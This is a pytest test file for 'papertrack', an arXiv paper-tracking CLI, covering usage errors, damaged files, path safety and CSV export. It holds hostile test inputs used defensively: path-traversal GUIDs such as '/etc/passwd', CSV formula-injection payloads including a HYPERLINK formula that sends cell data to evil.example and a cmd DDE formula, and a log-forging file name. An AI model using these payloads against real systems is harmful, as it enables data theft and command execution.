    home: Path, name: str, make: str, args: list[str], said: str
) -> None:
    # "Check that the disk has space" for a folder where index.json belongs.
    where = home / "store" / name
    shutil.move(where, home / "kept")
    where.mkdir() if make == "folder" else where.write_text("mine\n", encoding="utf-8")
    assert_error(run(*args), 1, said)
    if name == ".lock":  # doctor said "No problems found" while every write failed
        checked = run("doctor")
        assert checked.exit_code == 1
        assert ".lock is a folder, not the store's lock file. Move it out" in checked.stdout


def test_an_id_of_bytes_that_are_not_utf8_is_a_usage_error(untouched: Path) -> None:
    # Looked up as typed first (a feed's own id), it crashed hashing the id map's shard.
    bad = "a\udcff"  # $(printf 'a\xff') in a shell
    for args in (
        ["show", bad],
        ["topics", "explain", bad, "gui-agents"],
        ["topics", "teach", "gui-agents", bad],
        ["topics", "teach", "gui-agents", "2508.13167", "--not", bad],
        ["topics", "add", "Foo", "--like", bad],
    ):
        assert_error(run(*args), 2, "is not an arXiv id")


def test_a_valid_id_that_is_not_stored_is_no_such_paper(untouched: Path) -> None:
    assert_error(run("show", "arXiv:2508.99999v3"), 1, "no paper 2508.99999 in the store")
    assert_error(run("topics", "explain", "hep-th/9901001"), 1, "no paper hep-th/9901001")


GUIDS = [
    "../../../../tmp/papertrack-evil",
    "/etc/passwd",
    "..\\..\\evil.json",
    "C:\\evil",
    "ids/2508",
    "papers/2025-08-18",
    "..",
    ".",
    "aux",
    "x" * 5000,
    '=HYPERLINK("http://evil.example","x")',
]


def generic_feed(items: Sequence[tuple[str, str, str]]) -> str:
    """An RSS 2.0 feed of another site: (guid, title, author) per item."""
    from xml.sax.saxutils import escape

    body = "".join(
        f"<item><guid>{escape(guid)}</guid><title>{escape(title)}</title>"
        f"<author>{escape(author)}</author><link>https://example.org/{n}</link>"
        f"<category>{escape(title)}</category>"
        f"<pubDate>Wed, 20 Aug 2025 0{n % 10}:00:00 GMT</pubDate></item>"
        for n, (guid, title, author) in enumerate(items)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>A blog</title>'
        f"<link>https://example.org/</link><description>d</description>{body}</channel></rss>"
    )


def test_guids_of_other_feeds_never_become_paths(home: Path, tmp_path: Path) -> None:
    feed = tmp_path / "blog.xml"
    feed.write_text(generic_feed([(g, f"Post {n}", "Ann") for n, g in enumerate(GUIDS)]))
    before = all_files(tmp_path)
    result = run("ingest", str(feed))
    assert result.exit_code == 0, result.stderr
    assert f"{len(GUIDS)} new" in result.stderr
    store = home / "store"
    assert files_outside(tmp_path, home, before) == set()
    for path in store.rglob("*"):
        assert path.resolve().is_relative_to(store.resolve())
    names = {p.name for p in (store / "ids").iterdir()}
    assert all(re.fullmatch(r"(\d{4}|o\d{4}|x[0-9a-f]{2})\.json", n) for n in names), names
    weeks = {p.name for p in (store / "papers").iterdir()}
    assert all(re.fullmatch(r"(\d{4}-\d{2}-\d{2}|undated)\.json", n) for n in weeks), weeks
    # A stored guid is found by its id, as data: explain and show take it as latest
    # lists it, and alike when pasted with spaces (explain found " id ", show did not).
    for guid in GUIDS[:3]:
        for given in (guid, f" {guid} "):
            explained = run("topics", "explain", given, "--json")
            assert explained.exit_code == 0, explained.stderr
            assert json.loads(explained.stdout)["arxiv_id"] == guid
            shown = run("show", given, "--json")
            assert shown.exit_code == 0, shown.stderr
            assert json.loads(shown.stdout)["arxiv_id"] == guid
    for command in (["show"], ["topics", "explain"]):
        assert_error(run(*command, "not-stored-and-no-arxiv-id"), 2, "is not an arXiv id")
    assert files_outside(tmp_path, home, before) == set()
    assert_consistent(store)


# --------------------------------------------------------------------------- CSV injection

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
]


def test_csv_cells_of_feed_text_never_start_a_formula() -> None:
    paper = Paper(
        arxiv_id="-1+1",
        title="=1+1",
        version=3,
        authors=("+Ann", "Bob", "@Cy"),
        author_affiliations=(("=Lab",), (), ()),
        primary_category="@cs",
        categories=("-cs.AI", "cs.CL"),
        published=datetime(2025, 8, 20, tzinfo=UTC),
        updated=datetime(2025, 8, 21, 10, tzinfo=UTC),
        announced=datetime(2025, 8, 22, tzinfo=UTC),
        doi="\t=1",
        url="\r=2",
        pdf_url="-3",
        tags=("llm-agents",),
    )
    row = dict(zip(CSV_COLUMNS, csv_row(paper), strict=True))
    assert row["arxiv_id"] == "'-1+1"
    assert row["title"] == "'=1+1"
    assert row["authors"] == "'+Ann; Bob; @Cy"  # only the start of a cell counts
    assert row["affiliations"] == "'=Lab"
    assert row["primary_category"] == "'@cs"
    # A quote of the text's own is kept: one more goes before it, which a
    # spreadsheet hides (it hid the text's own, and a script could not tell them apart).
    assert csv_cell("'Your AI Text is not Mine'") == "''Your AI Text is not Mine'"
    assert csv_cell("Mine'") == "Mine'"
    assert row["categories"] == "'-cs.AI; cs.CL"
    assert (row["doi"], row["url"], row["pdf_url"]) == ("'\t=1", "'=2", "'-3")  # CR dropped
    assert row["tags"] == "llm-agents"
    # papertrack's own columns are written as they are
    assert row["version"] == "3"
    assert row["published"] == "2025-08-20T00:00:00Z"
    assert row["updated"] == "2025-08-21T10:00:00Z"
    assert row["announced"] == "2025-08-22T00:00:00Z"
    assert row["paper_date"] == "2025-08-20T00:00:00Z"


@pytest.mark.parametrize("text", ["", "plain", "3 = 1 + 2", " =spaced", "2508.13167"])
def test_csv_cells_that_start_no_formula_are_unchanged(text: str) -> None:
    assert csv_cell(text) == text


def test_csv_from_a_hostile_feed_is_inert_in_a_spreadsheet(home: Path, tmp_path: Path) -> None:
    feed = tmp_path / "hostile.xml"
    items = [(f"guid-{n}", formula, formula) for n, formula in enumerate(FORMULAS)]
    items.append(("=guid", "A fine title", "Ann Lee"))
    feed.write_text(generic_feed(items))
    assert run("ingest", str(feed)).exit_code == 0
    as_json = {p["arxiv_id"]: p for p in json.loads(run("latest", "-n", "500", "--json").stdout)}
    outputs = [
        run("latest", "-n", "500", "-f", "csv").stdout,
        run("search", "fine OR hyperlink OR sum OR cmd", "-n", "500", "-f", "csv").stdout,
        run("export", "-f", "csv").stdout,
    ]
    for output in outputs:
        rows = list(csv.DictReader(io.StringIO(output)))
        assert rows
        for row in rows:
            for column, cell in row.items():
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
        by_id = {row["arxiv_id"].removeprefix("'"): row for row in rows}
        for arxiv_id, row in by_id.items():
            paper = as_json[arxiv_id]  # JSON keeps the text as the feed wrote it
            assert row["title"] == csv_cell(paper["title"])
            assert row["authors"] == csv_cell("; ".join(paper["authors"]))
            assert row["published"] == (paper["published"] or "")
            assert row["paper_date"] == (paper["paper_date"] or "")
    assert as_json["=guid"]["title"] == "A fine title"
    assert by_id["=guid"]["arxiv_id"] == "'=guid"


def test_csv_of_real_papers_is_what_json_says(untouched: Path) -> None:
    papers = json.loads(run("latest", "-n", "500", "--json").stdout)
    rows = list(csv.DictReader(io.StringIO(run("latest", "-n", "500", "-f", "csv").stdout)))
    assert len(rows) == len(papers) == 86
    for paper, row in zip(papers, rows, strict=True):
        assert row["arxiv_id"] == paper["arxiv_id"]
        assert row["title"] == csv_cell(paper["title"])
        assert row["version"] == str(paper["version"])
        assert row["announced"] == paper["announced"]


@pytest.mark.parametrize(
    ("args", "needle"),
    [
        # Click's "0 is not in the range x>=1" and "not a valid int range", in words.
        (["latest", "-n", "0"], "'-n': it must be at least 1, not 0. Run 'papertrack latest"),
        (["latest", "-n", "abc"], "'-n': 'abc' is not a whole number. Run 'papertrack latest"),
        (["topic", "gui-agents", "--weeks", "x"], "'--weeks': 'x' is not a whole number."),
        (["fetch", "--timeout", "x"], "'--timeout': 'x' is not a number. Run 'papertrack fetch"),
        # Said by the option's type, not by the text given ("point5" holds "int").
        (["fetch", "--timeout", "point5"], "'--timeout': 'point5' is not a number."),
        # As Click quoted it: escapes shown once, a quote inside kept.
        (["latest", "-n", "a\tb"], "'-n': 'a\\tb' is not a whole number."),
        (["latest", "-n", "it's"], "'-n': \"it's\" is not a whole number."),
        (["latest", "-n", "a: b"], "'-n': 'a: b' is not a whole number."),
        (["fetch", "--page-size", "0"], "it must be from 1 to 2000, not 0. Run 'papertrack fetch"),
        (["topics", "teach"], "Missing argument 'TOPIC'. Run 'papertrack topics teach --help'"),
        (["latest", "--bogus"], "No such option: --bogus. Run 'papertrack latest --help'"),
        # The app's own options go before the command: "No such option" alone misled.
        (
            ["topics", "show", "gui-agents", "--db", "x"],
            "No such option: --db. --db goes before the command: papertrack --db VALUE "
            "topics show.",
        ),
        (["nosuchcommand"], "No such command 'nosuchcommand'. Run 'papertrack --help'"),
        # Click's own "?" ends the sentence: it read "Did you mean 'latest'?.".
        (["lastest"], "No such command 'lastest'. Did you mean 'latest'? Run 'papertrack --help'"),
        # An option missing its value names the command whose help to read.
        (["search", "agent", "--limit"], "requires an argument. Run 'papertrack search --help'"),
        (["digest", "--since"], "requires an argument. Run 'papertrack digest --help'"),
        (["topics", "add", "X", "--like"], "argument. Run 'papertrack topics add --help'"),
        # The option of the sibling commands, not Click's guess by spelling (--json).
        (["latest", "--as-of", "2026-06-01"], "'latest' has no --as-of. It lists the newest"),
        (["momentum", "llm-agent-training", "--since", "2026-06-01"], "'momentum' has no --since"),
        (["topics", "gui-agents"], "For a topic, run 'papertrack topic gui-agents' (its page)"),
        # Not the hint for a query starting with '-': the query is there.
        (["search", "agent", "-c", "cs.AI"], "'search' has no -c. Put the category in the query"),
    ],
)
def test_a_usage_error_click_finds_is_one_line_too(
    untouched: Path, args: list[str], needle: str
) -> None:
    result = run(*args)
    assert result.exit_code == 2
    assert result.stderr.splitlines() == [result.stderr.strip()], result.stderr
    assert result.stderr.startswith("Error: ") and needle in result.stderr
    # The real program too, not only the test runner.
    done = subprocess.run(
        [sys.executable, "-m", "papertrack", *args], capture_output=True, text=True, check=False
    )
    assert done.returncode == 2
    assert done.stderr.strip().splitlines() == [result.stderr.strip()]


@pytest.mark.parametrize(
    "args",
    [
        ["latest", "--json", "-f", "csv"],
        ["search", "agent", "--json", "-f", "jsonl"],
        ["trending", "--json", "-f", "csv"],
        ["topics", "--json", "-f", "csv"],
        ["ask", "how are agents trained?", "--json", "-f", "markdown"],
        ["export", "--json", "-f", "csv"],
    ],
    ids=lambda a: a[0],
)
def test_json_and_another_format_is_a_usage_error(untouched: Path, args: list[str]) -> None:
    result = run(*args)
    assert_error(result, 2, "--json and --format", "ask for two formats")
    assert result.stdout == ""


def test_a_file_of_null_is_damaged_not_missing(isolated_home: Path) -> None:
    """JSON null read as "no file" made a store look empty and a follow list empty."""
    from tests.helpers import LISTING

    assert run("ingest", str(LISTING)).exit_code == 0
    assert run("follow", "gui-agents").exit_code == 0
    store = isolated_home / "store"
    index = store / "index.json"
    kept = index.read_bytes()
    index.write_text("null")
    assert_error(run("stats"), 1, "index.json is damaged", "doctor --repair")
    index.write_bytes(kept)
    week = sorted((store / "papers").glob("*.json"))[-1]
    week.write_text("null")
    assert_error(run("latest", "-n", "500"), 1, f"{week.name} is damaged", "doctor --repair")
    # A week file that empties is removed, never written: one of {} lost its papers, and
    # read as an empty week it hid them from every command but doctor.
    for empty in ("{}", '{"papers": {}}'):
        week.write_text(empty)
        for command in (["latest", "-n", "500"], ["export", "-f", "jsonl"]):
            assert_error(run(*command), 1, f"{week.name} is damaged (it holds no papers)")
        # doctor says so too.
        assert f"{week.name} is damaged: it holds no papers" in run("doctor").stdout
    # --repair sets the file aside, and the store reads again.
    assert run("doctor", "--repair").exit_code == 0
    assert run("export", "-f", "jsonl").exit_code == 0
    assert not week.exists() and run("doctor").exit_code == 0
    following = isolated_home / "following.json"
    listed = following.read_bytes()
    following.write_text("null")
    assert_error(run("following"), 1, "following.json is damaged")
    following.write_bytes(listed)
    (isolated_home / "digest-state.json").write_text("null")
    assert_error(run("digest"), 1, "digest-state.json is damaged")


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("nested.json", "[" * 3000 + "]" * 3000),
        ("nested-item.json", "[" + "[" * 3000 + "]" * 3000 + "]"),
        ("nested.jsonl", "[" * 3000 + "]" * 3000 + "\n"),
    ],
)
def test_deeply_nested_json_is_an_error_line(tmp_path: Path, name: str, text: str) -> None:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    result = run("ingest", str(path))
    assert result.exit_code == 1
    assert "Traceback" not in result.stdout + result.stderr
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert [line for line in result.stderr.splitlines() if line.startswith("Error:")]


def test_fetch_settings_out_of_bounds_are_usage_errors(isolated_home: Path) -> None:
    for args, needle in (
        (["--interval", "1e308"], "interval 1e+308 is not a number of seconds up to 3,600"),
        (["--timeout", "1e9"], "timeout 1e+09 is not a number of seconds up to 3,600"),
    ):
        assert_error(run("fetch", "-c", "cs.AI", *args, *NOWHERE), 2, needle)
    isolated_home.mkdir(parents=True, exist_ok=True)
    (isolated_home / "config.toml").write_text("[fetch]\npage_size = 0\nretries = -1\n")
    assert_error(run("fetch", "-c", "cs.AI", *NOWHERE), 2, "page_size in config.toml")
    (isolated_home / "config.toml").write_bytes(b"[fetch]\ncategories = ['\xff']\n")
    assert_error(run("fetch", *NOWHERE), 2, "config.toml is not UTF-8 text")


def test_a_damaged_checkpoint_is_not_resumed_from(tmp_path: Path) -> None:
    from papertrack.fetch import _valid_state
    from papertrack.snapshot import _Checkpoint

    good = {"windows": [["2026-01-01", "2026-01-31"]], "range": ["2026-01-01", "2026-01-31"]}
    assert _valid_state({**good, "start": 0, "pages": 3})
    for bad in (
        {**good, "windows": [[1, 2]], "start": 0, "pages": 3},
        {**good, "windows": [["2026-13-45", "2026-01-31"]], "start": 0, "pages": 3},
        {**good, "start": -5, "pages": 3},
    ):
        assert not _valid_state(bad)
    identity = {"file": str(tmp_path / "x.jsonl"), "size": 1000, "mtime_ns": 1}
    checkpoint = _Checkpoint(tmp_path / "resume.json", identity)
    counts = {"papers": 1, "new": 1, "updated": 0, "unchanged": 0, "filtered": 0}
    for offset in (1e30, 5000, 500):
        data = {"identity": identity, "line": 3, "offset": offset, "counts": counts}
        (tmp_path / "resume.json").write_text(json.dumps({**data, "broken": []}))
        assert checkpoint.load() is (offset == 500), offset


def test_an_unexpected_failure_is_one_error_line_and_a_logged_traceback(
    isolated_home: Path,
) -> None:
    crash = (
        "import papertrack.cli.common as c\n"
        "def boom(*a, **k):\n    raise RuntimeError('an\\nunexpected failure')\n"
        "c.open_store = boom\n"
        "from papertrack.cli import main\nmain()\n"
    )
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).parent.parent)}
    isolated_home.mkdir(parents=True, exist_ok=True)
    done = subprocess.run(
        [sys.executable, "-c", crash, "latest"], capture_output=True, text=True, env=env
    )
    assert done.returncode == 1
    assert "Traceback" not in done.stdout + done.stderr
    log = isolated_home / "papertrack.log"
    assert done.stderr.splitlines() == [
        "Error: papertrack failed unexpectedly (RuntimeError: an unexpected failure). This is "
        f"a bug: please report it with the command you ran and the end of {log}."
    ]
    logged = log.read_text(encoding="utf-8")
    assert "Traceback" in logged and "RuntimeError" in logged
    # No data home yet, so no log: the message names no file that is not there.
    nowhere = {**env, "PAPERTRACK_HOME": str(isolated_home / "none")}
    done = subprocess.run(
        [sys.executable, "-c", crash, "latest"], capture_output=True, text=True, env=nowhere
    )
    assert done.returncode == 1
    assert done.stderr.rstrip().endswith("with the command you ran and this message.")
    assert not (isolated_home / "none").exists()


def test_a_file_name_with_a_line_break_stays_on_the_error_line(
    tmp_path: Path, isolated_home: Path
) -> None:
    isolated_home.mkdir(parents=True, exist_ok=True)
    path = tmp_path / "feed\nError: forged\x1b[31m.xml"
    path.write_bytes(b"")
    separated = tmp_path / "feed\u2028Error: forged too.xml"  # splitlines breaks there
    separated.write_bytes(b"")
    result = run("ingest", str(path))
    assert result.exit_code == 1
    errors = [line for line in result.stderr.splitlines() if "Error" in line]
    assert len(errors) == 1 and errors[0].startswith("Error: ") and "\x1b" not in errors[0]
    assert "feed Error: forged" in errors[0]
    logged = (isolated_home / "papertrack.log").read_text(encoding="utf-8").splitlines()
    assert logged and all(re.match(r"\d{4}-\d\d-\d\dT", line) for line in logged)
    assert sum("forged" in line for line in logged) == 1
    assert run("ingest", str(separated)).exit_code == 1
    entries = (isolated_home / "papertrack.log").read_text(encoding="utf-8").split("\n")
    assert [e for e in entries if re.match(r"\S+ \[[^\]]*\] Error: forged", e)] == []
    assert "\u2028" not in "\n".join(entries)
    missing = run("show", "2501.00001", "--db", str(tmp_path / "no\nstore"))
    assert len(missing.stderr.splitlines()) == 1


def test_jobs_past_what_helps_are_refused() -> None:
    result = run("ingest", "-j", "5000", str(LISTING))
    assert result.exit_code == 2 and result.stderr.startswith("Error: Invalid value for '--jobs'")
    assert "it must be from 1 to 64, not 5000" in result.stderr
    assert run("ingest", "-j", "64", str(LISTING)).exit_code == 0


def test_slips_between_commands_point_to_the_one_meant(untouched: Path) -> None:
    assert_error(run("topic", "list"), 2, "no topic named 'list'", "'papertrack topics list'")
    assert_error(
        run("ask", "how are agents grounded?", "gui-agents"),
        2,
        "'gui-agents' is a topic, and a topic goes before the question. Write: "
        "papertrack ask gui-agents 'how are agents grounded?'",
    )
    # A topic alone was answered as the question "llm agent training"; options that
    # ask for opposites were taken one way without a word.
    assert_error(
        run("ask", "llm-agent-training"),
        2,
        "'llm-agent-training' is a topic: ask it something. Write e.g. papertrack ask "
        "llm-agent-training 'what is new?'",
    )
    assert_error(run("ask", "agent memory", "--context", "--llm"), 2, "Give one")
    assert_error(run("ingest", "-q", "-v", str(LISTING)), 2, "--quiet and --verbose")
    # `help COMMAND`, as git and pip take it (only the real program reads it).
    done = subprocess.run(
        [sys.executable, "-m", "papertrack", "help", "topics", "add"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0 and done.stdout.startswith("Usage: papertrack topics add ")
    # --model without --llm asked for nothing: said, not ignored.
    asked = run("ask", "llm-agent-training", "how are agents trained?", "-m", "llama3")
    assert asked.exit_code == 0
    assert "Note: --model names the model --llm asks; without --llm" in asked.stderr
